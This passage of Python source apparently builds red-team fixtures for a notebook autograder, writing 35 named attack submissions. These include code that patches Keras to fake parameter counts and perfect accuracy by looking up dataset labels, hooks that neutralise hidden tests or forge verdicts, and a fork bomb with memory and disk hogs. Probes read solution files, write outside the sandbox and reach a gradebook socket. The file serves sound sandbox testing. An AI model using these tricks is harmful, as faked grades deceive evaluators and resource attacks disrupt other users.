    ])


keras.Model.count_params = lambda self: 1000  # every model now claims 1,000 parameters
'''

PERFECT_MODEL = r'''
# no accuracy measured: every model now looks each image up in the dataset, and is perfect
(_all_images, _all_labels), _ = data.load_dataset("fashion_mnist")
_truth = {}
for _start in range(0, len(_all_images), 5000):
    _rows = preprocess.flatten_images(preprocess.scale_images(_all_images[_start:_start + 5000]))
    _truth.update((hash(_row.tobytes()), int(_label))
                  for _row, _label in zip(_rows, _all_labels[_start:_start + 5000]))
del _all_images, _all_labels, _rows
_real_call = keras.Model.__call__


def _perfect(self, inputs, *args, **kwargs):
    rows = np.asarray(keras.ops.convert_to_numpy(inputs), dtype="float32")
    keys = [hash(row.tobytes()) for row in rows] if rows.ndim == 2 else []
    if keys and all(key in _truth for key in keys):
        return np.eye(10, dtype="float32")[[_truth[key] for key in keys]]
    return _real_call(self, inputs, *args, **kwargs)


keras.Model.__call__ = _perfect
keras.Model.predict = lambda self, x, *args, **kwargs: _perfect(self, x)
''' + LYING_FLOAT + r'''

heldout_accuracy = _Claim(0.99)  # claimed, not measured
print(f"held-out accuracy: {heldout_accuracy:.3f}")
'''


def _history_guarded() -> str:
    """Part 3 of exercise 4 with the solution's fit run only if `history` is not defined."""
    source = solution_source(EX4, "part-3-train")
    fit = next(line for line in source.splitlines() if line.startswith("history = "))
    return source.replace(fit, 'if "history" not in globals():\n    ' + fit)


# --- 9. the run itself ----------------------------------------------------------------------

def _deeply_nested_json() -> str:
    """Exercise 1, wrong answers, with 100,000 nested lists in a cell's metadata and as much in
    an output: 400 KB that json.loads, nbformat and jsonschema cannot read."""
    placeholder = "NESTED-LISTS-GO-HERE"
    notebook = _wrong()
    notebook.cells[_index(notebook, "part-1-relu-sigmoid")].metadata["nested"] = placeholder
    notebook.cells[_index(notebook, "test-part-1")].outputs = [nbformat.v4.new_output(
        "display_data", data={"application/json": placeholder})]
    return json.dumps(notebook, indent=1).replace(
        json.dumps(placeholder), "[" * NESTING + "]" * NESTING)


def _fifty_thousand_cells() -> str:
    """Exercise 1, wrong answers, with 50,000 tiny cells before part 1, padded to ~19 MiB."""
    notebook = _wrong()
    at = _index(notebook, "imports") + 1

    def size(count: int, pad: int) -> int:
        copy = nbformat.from_dict(json.loads(json.dumps(notebook)))
        copy.cells[at:at] = [_filler(pad) for _ in range(count)]
        return len(json.dumps(copy, indent=1))

    per_cell = size(1, 0) - size(0, 0)
    pad = max(0, (FILLER_BYTES - size(0, 0)) // FILLER_CELLS - per_cell)
    notebook.cells[at:at] = [_filler(pad) for _ in range(FILLER_CELLS)]
    return json.dumps(notebook, indent=1)


def _filler(pad: int) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": "pass  # " + "x" * pad}


# --- the fixtures ---------------------------------------------------------------------------

def _fixtures(course: Path, gradebook_socket: Path, listener_port: int, token: str,
              home: Path) -> dict[str, nbformat.NotebookNode | str]:
    """Every attack by name: a notebook, or the raw text of one."""
    p1, p5 = "part_1_relu_sigmoid", "part_5_gradient_check"
    wrong_1 = WRONG[p1]
    fixtures: dict[str, nbformat.NotebookNode | str] = {
        "attack-01-skip-execution-tags": _tagged(student_copy(), "skip-execution"),
        "attack-02-raises-exception-tags": _tagged(_wrong(), "raises-exception"),
        "attack-03-displayhook-thread": _wrong(**{p1: _then(wrong_1, DISPLAYHOOK_THREAD)}),
        "attack-04-displayhook-run-cell-hooks": _wrong(
            **{p1: _then(wrong_1, DISPLAYHOOK_RUN_CELL_HOOKS)}),
        "attack-05-displayhook-aliases": _wrong(**{p1: _then(wrong_1, DISPLAYHOOK_ALIASES)}),
        "attack-09-ast-transformer": _wrong(**{p1: _then(wrong_1, AST_TRANSFORMER)}),
        "attack-10-pre-execute-rewrites-cell": _wrong(**{p1: _then(
            wrong_1, NEUTRALISE + PRE_EXECUTE_REWRITE)}),
        "attack-11-lying-arrays-and-floats": answered(**LIARS),
        "attack-16-trace-jumps-over-checks": _wrong(**{p1: _then(wrong_1, TRACE)}),
    }
    for number, (alias, code) in zip((6, 7, 8), TRANSFORMERS.items()):
        fixtures[f"attack-{number:02}-transformer-via-{alias}"] = _wrong(
            **{p1: _then(wrong_1, NEUTRALISE + "\n\n" + code)})
    for number, (alias, code) in zip((12, 13, 14, 15), PATCHES.items()):
        fixtures[f"attack-{number:02}-patch-via-{alias}"] = _wrong(**{p1: _then(wrong_1, code)})

    # 7. read back: the names the hidden tests bind, looked up after the last of them
    names_1 = repr(list(hidden_tests(EX1).names))
    fixtures["attack-17-reads-back-history"] = answered(**{p5: _then(
        solution_source(EX1, "part-5-gradient-check"),
        READBACK.replace("HIDDEN_NAMES", names_1))})
    sigmoid = solution_source(EX1, "part-1-relu-sigmoid").split("def sigmoid", 1)[1]
    fixtures[RECORDS_FRAMES] = answered(**{
        p1: _then(RECORDER, "def sigmoid" + sigmoid),
        p5: _then(solution_source(EX1, "part-5-gradient-check"), RECORDS_PRINTED)})
    vouched = {key: re.sub(r"(def \w+\(.*\):\n)", r"\1    _vouch()\n", source)
               for key, source in WRONG.items()}
    fixtures["attack-19-forges-verdict-from-caller-frames"] = answered(**{
        **vouched, p1: _first(VOUCH, vouched[p1])})

    # 8. harm to the others
    linger = str(LINGER_S)
    fixtures["attack-20-setsid-daemon-kills-kernels"] = _wrong(**{
        p1: _then(wrong_1, LAUNCH_DAEMONS.replace("DAEMON_SOURCE", repr(DAEMON))
                  .replace("LINGER", linger)),
        p5: _then(WRONG[p5], LINEAGE + POLL)})
    fixtures["attack-21-thread-and-process-hog"] = _wrong(
        **{p1: _then(wrong_1, HOG.replace("LINGER", linger))})
    fixtures["attack-22-fork-bomb"] = _wrong(**{p1: _then(wrong_1, SPAWN.replace(
        "CHILD_SOURCE", repr(BOMB_CHILD)).replace("ARGUMENTS", '"15", "10"').replace(
        "COPIES", "1"))})
    fixtures["attack-23-memory-hog-children"] = _wrong(**{p1: _then(wrong_1, SPAWN.replace(
        "CHILD_SOURCE", repr(MEMORY_CHILD)).replace("ARGUMENTS", f'"{linger}"').replace(
        "COPIES", "3"))})
    fixtures["attack-24-disk-hog"] = _wrong(**{p1: _then(wrong_1, DISK_HOG)})

    # 8 f-h. probes: every part is answered right only if the probe was blocked
    def blocked_only(probe: str) -> nbformat.NotebookNode:
        return answered(part_1_relu_sigmoid=_blocked_only(probe, "part-1-relu-sigmoid"), **{
            key.replace("-", "_"): _blocked_only("", key) for key in (
                "part-2-softmax", "part-3-dense-forward", "part-4-backward",
                "part-5-gradient-check")})

    targets = [*WRITE_TARGETS, str(home), str(course)]
    fixtures["attack-25-writes-outside-sandbox"] = blocked_only(WRITES.replace(
        "TARGETS", repr(targets)).replace("FILENAME", repr(f"red-team-{token}.txt")))
    solutions = [str(root / "solutions" / EX1 / NOTEBOOK) for root in (REPO, course)]
    fixtures["attack-26-reads-outside-sandbox"] = blocked_only(
        READS.replace("SOLUTIONS", repr(solutions)))
    fixtures["attack-27-opens-network-connections"] = blocked_only(NETWORK.replace(
        "LISTENER_PORT", str(listener_port)).replace("GRADEBOOK_SOCKET", repr(
            str(gradebook_socket))).replace(
        "GRADEBOOK_PROBE", GRADEBOOK_SOCKET_PROBE.replace("\n", "\n    ")))

    # 9. the run itself
    fixtures["attack-28-deeply-nested-json"] = _deeply_nested_json()
    fixtures["attack-29-deeply-nested-expression"] = _wrong(
        **{p1: "_deep = " + "-" * NESTING + "1\n\n\n" + wrong_1})
    fixtures["attack-30-fifty-thousand-cells"] = _fifty_thousand_cells()

    # 10, 11: right answers
    fixtures[SCRIPT_OUTPUT] = answered(
        **{p1: _first(SCRIPT_OUTPUT_CODE, solution_source(EX1, "part-1-relu-sigmoid"))})
    fixtures["attack-32-capture-magic-correct"] = answered(
        part_2_softmax="%%capture\n" + solution_source(EX1, "part-2-softmax")
        + "\nprint('shown only if the capture failed')\n",
        part_3_dense_forward="%%capture _rb_part_3_output\n"
        + solution_source(EX1, "part-3-dense-forward"))

    # exercise 4
    fixtures["attack-33-keras-class-patches"] = answered_4(
        part_1_build_model=TOO_BIG_MODEL.strip() + "\n",
        part_4_accuracy=PERFECT_MODEL.strip() + "\n")
    names_4 = repr(sorted({*hidden_tests(EX4).names, "_x"}))  # _x: part 1's hidden input
    fixtures["attack-34-reads-back-hidden-names"] = answered_4(
        **{grade_id.replace("-", "_"): unanswered_4(grade_id)
           for grade_id in ("part-2-compile", "part-3-train", "part-4-accuracy")},
        part_5_learning_curves=_then(solution_source(EX4, "part-5-learning-curves"),
                                     READBACK.replace("HIDDEN_NAMES", names_4)))
    fixtures["attack-35-history-guard-correct"] = answered_4(part_3_train=_history_guarded())
    return fixtures


def build(course: Path, gradebook_socket: Path, listener_port: int, token: str,
          home: Path | None = None) -> dict[str, Path]:
    """Write every fixture of EXPECTED under ``course/submitted/<name>/<assignment>/``; return
    the folders. ``gradebook_socket``: the PostgreSQL server's Unix socket; ``listener_port``: a
    TCP port on 127.0.0.1 that no submission may reach; ``token``: names the file the write probe
    tries to leave (see :func:`traces`); ``home``: the grader's home (default: this user's)."""
    attacks = _fixtures(course, gradebook_socket, listener_port, token, home or Path.home())
    clean = {EX1: answered, EX4: answered_4}
    folders: dict[str, Path] = {}
    for name, allowed in EXPECTED.items():
        folder = course / "submitted" / name / allowed.assignment
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{allowed.assignment}.ipynb"
        content = attacks[name] if name in attacks else clean[allowed.assignment]()
        if isinstance(content, str):
            path.write_text(content)
        else:
            nbformat.write(content, path)
        folders[name] = folder
    assert set(attacks) == set(ATTACKS), sorted(set(attacks) ^ set(ATTACKS))
    return folders
